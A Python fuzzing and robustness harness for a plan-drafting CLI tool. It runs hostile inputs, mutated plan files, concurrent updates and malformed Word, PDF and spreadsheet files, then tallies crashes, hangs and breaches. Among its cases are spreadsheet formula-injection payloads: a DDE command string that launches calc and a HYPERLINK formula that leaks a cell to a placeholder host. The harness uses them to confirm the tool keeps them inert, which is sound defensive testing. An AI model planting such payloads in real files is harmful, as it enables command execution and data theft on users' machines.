"""A fresh attack run, with totals: python tools/attack.py [--pairs N] [--mutations N]

1. every hostile input of tests/hostile/cases.yaml, each in its own process with a time limit (a hang is
   a timeout, not a stuck run);
2. hand edits of a drafted plan: each field of it set to a wrong type, then rendered, reported, reviewed;
3. pairs of concurrent `progress --measure` runs on one plan (a lost update is a loss);
4. the second attack's classes (issue 29), each in its own process with a time limit, its peak memory measured:
   formula-like agency names through every Excel writer (a live formula is a breach), YAML sets and lone
   surrogates, metadata given twice, hostile Word files (a merge continued in the first row, a 3,000-row merge
   chain, a billion-column span, a main part renamed .bin), hostile PDFs (a content stream shared by 499 pages,
   AES encryption, 60 MB), a sheet with a cell at XFD1048576, a rule joining eight questions, a recommendation
   text repeating a placeholder, -o naming a folder, an agency name of 300 characters.

Prints: inputs tried, clean errors (exit 1 or 2 with one-line located errors), successes, exit 70s,
tracebacks, hangs, losses, breaches, the largest peak memory of one run. Exit status 1 when any exit 70, traceback, hang or loss was seen.
"""

from __future__ import annotations

import argparse
import copy
import os
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "tests"), str(ROOT / "tests" / "hostile")]
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}
CLI = [sys.executable, "-c", "import sys; from itaplan.cli import main; sys.exit(main())"]


def _run(args: list[str], cwd: Path, timeout: float) -> tuple[int | None, str]:
    try:
        done = subprocess.run(CLI + args, cwd=cwd, capture_output=True, text=True, timeout=timeout, env=ENV,
                              errors="replace")
    except subprocess.TimeoutExpired:
        return None, ""
    return done.returncode, done.stdout + done.stderr


def _tally(totals: Counter, status: int | None, output: str, expected: int | None = None) -> str:
    totals["inputs tried"] += 1
    if status is None:
        totals["hangs"] += 1
        return "hang"
    if "Traceback" in output:
        totals["tracebacks"] += 1
        return "traceback"
    if status == 70:
        totals["exit 70s"] += 1
        return "exit 70"
    if expected is not None and status != expected:
        totals["unexpected status"] += 1
        return f"status {status}, expected {expected}"
    totals["clean errors" if status in (1, 2) else "successes"] += 1
    return ""


def table(totals: Counter, work: Path) -> list[str]:
    import test_table as t

    notes = []
    for case in t.CASES:
        folder = work / f"case{totals['inputs tried']}"
        folder.mkdir()
        for name, spec in (case.get("files") or {}).items():
            t._make(folder, name, spec)
        args = [str(a).replace("{ex}", str(t.EXAMPLE)) for a in case["args"]]
        status, output = _run(args, folder, max(20.0, 4 * case.get("seconds", 10)))
        problem = _tally(totals, status, output, case["exit"])
        if problem:
            notes.append(f"{case['name']}: {problem}")
    return notes


def mutations(totals: Counter, work: Path, limit: int) -> list[str]:
    from click.testing import CliRunner
    from itaplan.cli import main

    base_path = work / "base.yaml"
    runner = CliRunner()
    runner.invoke(main, ["-q", "draft", str(ROOT / "examples" / "example.yaml"), "-o", str(base_path)])
    base = yaml.safe_load(base_path.read_text(encoding="utf-8"))

    def paths(data, path=()):
        if isinstance(data, dict):
            for key, value in data.items():
                yield from paths(value, path + (key,))
        elif isinstance(data, list) and data:
            yield from paths(data[0], path + (0,))
        if path:
            yield path

    notes = []
    commands = [["render", "{p}", "--format", "md"], ["render", "{p}", "--format", "docx", "-o", "{o}.docx"],
                ["render", "{p}", "--format", "xlsx", "-o", "{o}.xlsx"], ["report", "{p}", "--format", "md"],
                ["review", "{p}", "--plain", "--width", "80"], ["progress", "{p}", "--show", "--plain"]]
    for n, path in enumerate(list(paths(base))[:limit]):
        for value in ("abc", None, {}, -5):
            plan = copy.deepcopy(base)
            node = plan
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = value
            plan_path = work / "mutated.yaml"
            plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True), encoding="utf-8")
            for command in commands:
                args = [a.replace("{p}", str(plan_path)).replace("{o}", str(work / f"out{n}")) for a in command]
                result = runner.invoke(main, args)
                problem = _tally(totals, result.exit_code, result.output)
                if problem:
                    notes.append(f"{'.'.join(map(str, path))} = {value!r}, {command[0]}: {problem}: "
                                 f"{result.output.strip()[-160:]}")
    return notes


def pairs(totals: Counter, work: Path, count: int) -> list[str]:
    plan = work / "shared.yaml"
    subprocess.run(CLI + ["-q", "draft", str(ROOT / "examples" / "example.yaml"), "-o", str(plan)], env=ENV,
                   check=True)
    ids = [m["id"] for m in yaml.safe_load(plan.read_text(encoding="utf-8"))["measures"]][:2]
    notes = []
    for n in range(count):
        runs = [subprocess.Popen(CLI + ["-q", "progress", str(plan), "--measure", mid, "--note", f"pair {n}",
                                        "--as-of", "1/1/2569"], env=ENV, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE) for mid in ids]
        for run in runs:
            _, err = run.communicate(timeout=120)
            _tally(totals, run.returncode, err.decode(errors="replace"), 0)
        notes_now = {m["id"]: m.get("note") for m in yaml.safe_load(plan.read_text(encoding="utf-8"))["measures"]}
        lost = [mid for mid in ids if notes_now[mid] != f"pair {n}"]
        if lost:
            totals["losses"] += len(lost)
            notes.append(f"pair {n}: update of {', '.join(lost)} lost")
    return notes


def _peak_run(args: list[str], cwd: Path, timeout: float) -> tuple[int | None, str, float]:
    """A run in its own process with its peak memory (MB, the child's maximum resident size)."""
    code = ("import resource, sys\nfrom itaplan.cli import main\ntry:\n    status = main()\nexcept SystemExit as e:\n"
            "    status = e.code\nprint('\\nPEAK', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
            "sys.exit(status)")
    try:
        done = subprocess.run([sys.executable, "-c", code, *args], check=False, cwd=cwd, capture_output=True, text=True,
                              timeout=timeout, env=ENV, errors="replace")
    except subprocess.TimeoutExpired:
        return None, "", 0.0
    peak = next((int(line.split()[1]) for line in done.stderr.splitlines() if line.startswith("PEAK ")), 0) / 1024
    return done.returncode, done.stdout + done.stderr, peak


def second(totals: Counter, work: Path) -> list[str]:
    """The second attack's classes (issue 29): each must end in a success or a located error, in time and in memory
    (1 GB), and a formula-like agency name must stay text in every sheet."""
    import io
    import json

    import test_hostile_documents as h
    from openpyxl import load_workbook

    example = (ROOT / "examples" / "example.yaml").read_text(encoding="utf-8")
    cases: list[tuple[str, list[str], dict[str, bytes]]] = []
    for name in ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?leak="&B5,"open")', "+SUM(1,1)", "@SUM(1)"):
        cases.append((f"formula agency {name[:12]}", ["draft", "r.csv", "-o", "out.xlsx"],
                      {"r.csv": f"agency,{json.dumps(name)}\nfiscal_year,2568\ncode,score\ni1,80\n".encode()}))
    cases += [
        ("YAML set", ["score", "r.yaml"], {"r.yaml": example.replace("fiscal_year: 2568", "fiscal_year: !!set {2568}")
                                         .encode()}),
        ("lone surrogate in JSON", ["score", "r.json"], {"r.json": b'{"agency": {"name": "\\ud800"}, "fiscal_year": 2568,'
                                                                    b' "questions": {"i1": 80}}'}),
        ("metadata twice", ["score", "r.csv"], {"r.csv": b"fiscal_year,2568\nfiscal_year,2567\ncode,score\ni1,80\n"}),
        ("-o a folder", ["draft", str(ROOT / "examples" / "example.yaml"), "-o", "newdir/"], {}),
        ("agency of 300 characters", ["draft", "r.yaml", "-o", "long.docx"],
         {"r.yaml": example.replace("องค์การบริหารส่วนตำบลห้วยทราย", "องค์การบริหารส่วนตำบล" + "ก" * 300, 1).encode()}),
    ]
    folder = work / "second"
    folder.mkdir()
    builders = {
        "merge continued in the first row": lambda p: h.word_file(p, h.first_cell('<w:vMerge/>')),
        "3,000-row merge chain": lambda p: h.word_file(p, h.merge_chain(3000)),
        "a billion-column span": lambda p: h.word_file(p, h.first_cell('<w:gridSpan w:val="1000000000"/>')),
        "main part renamed .bin": lambda p: h.word_file(p, h._many_paragraphs, "word/document.bin"),
    }
    for label, build in builders.items():
        path = folder / f"{len(cases)}.docx"
        build(path)
        cases.append((f"Word: {label}", ["score", str(path)], {}))
    for label, content, pages in (("content shared by 499 pages", h.TEXT + b"0 0 m\n" * 663_000, 499),
                                  ("4 MB drawn", h.TEXT + b"0 0 m\n" * 95_000, 499)):
        path = h.raw_pdf(folder / f"{len(cases)}.pdf", content, pages=pages)
        cases.append((f"PDF: {label}", ["score", str(path)], {}))
    big = h.raw_pdf(folder / "big.pdf", h.TEXT)
    with big.open("ab") as handle:
        handle.truncate(60 * 1024 * 1024)
    cases.append(("PDF: 60 MB", ["score", str(big)], {}))
    cases.append(("sheet: a cell at XFD1048576", ["score", str(h._sheet(folder / "far.xlsx",
                                                                    [["code", "score"], ["i1", 80]], far=True))], {}))
    atoms = "\n".join(f"        - question: {{codes: [i1, i2, i3, i4, i5, i6, i7, i8], below: 85}}" for _ in range(8))
    cases.append(("rule joining eight questions", ["rules", "validate", "rules"],
                  {"rules/r.yaml": (f"version: 1\nframeworks: [2568]\nrules:\n  - id: eight\n    title: eight\n"
                                    f"    when:\n      all:\n{atoms}\n    propose: [budget-participation]\n").encode()}))
    cases.append(("a placeholder repeated", ["draft", str(ROOT / "examples" / "example.yaml"), "--recommendations", "rec",
                                             "-o", "p.yaml"],
                  {"rec/settings.yaml": ("texts:\n  row_issue: '" + "{issue}" * 2000 + "'\n").encode()}))
    notes = []
    for n, (label, args, files) in enumerate(cases):
        place = folder / f"case{n}"
        place.mkdir()
        for name, data in files.items():
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_bytes(data)
        status, output, peak = _peak_run(args, place, 60.0)
        totals["largest peak (MB)"] = max(totals["largest peak (MB)"], round(peak))
        problem = _tally(totals, status, output)
        if peak > 1024:
            problem = problem or f"peak {peak:.0f} MB"
        out = place / "out.xlsx"
        if out.exists():
            workbook = load_workbook(io.BytesIO(out.read_bytes()))
            live = [f"{ws.title}!{c.coordinate}" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
                    if c.data_type == "f"]
            if live:
                totals["breaches"] += 1
                problem = f"live formula in {', '.join(live[:3])}"
        if problem:
            notes.append(f"{label}: {problem}: {output.strip()[-160:]}")
    return notes


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pairs", type=int, default=20)
    parser.add_argument("--mutations", type=int, default=60, help="plan fields to break (4 values, 6 commands each)")
    options = parser.parse_args()
    totals: Counter = Counter()
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        notes = table(totals, work) + mutations(totals, work, options.mutations) + pairs(totals, work, options.pairs) \
            + second(totals, work)
    for note in notes:
        print(note)
    keys = ["inputs tried", "clean errors", "successes", "unexpected status", "exit 70s", "tracebacks", "hangs",
            "losses", "breaches", "largest peak (MB)"]
    print("; ".join(f"{key}: {totals[key]}" for key in keys))
    return 1 if any(totals[k] for k in ("exit 70s", "tracebacks", "hangs", "losses", "breaches")) else 0


if __name__ == "__main__":
    sys.exit(main())
